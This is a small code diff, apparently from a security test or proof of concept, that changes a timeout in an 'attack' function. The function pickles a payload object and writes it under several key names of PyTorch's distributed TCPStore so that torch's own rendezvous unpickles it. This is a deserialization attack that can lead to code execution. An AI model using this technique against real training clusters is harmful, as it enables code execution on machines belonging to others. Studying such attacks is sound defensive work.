@@ -94,7 +94,7 @@ def running(folder, *flags):
 def attack(port, folder, run_id):
     """Writes a payload wherever torch's own rendezvous would unpickle it."""
     payload = pickle.dumps(Payload(folder))
-    store = dist.TCPStore("127.0.0.1", port, is_master=False, timeout=timedelta(seconds=20))
+    store = dist.TCPStore("127.0.0.1", port, is_master=False, timeout=timedelta(seconds=60))
     for name in (f"torch.rendezvous.{run_id}", "launcher/rank_0", "rank_0", "all here"):
         for value in (payload, base64.b64encode(payload)):
             store.set(name, value)
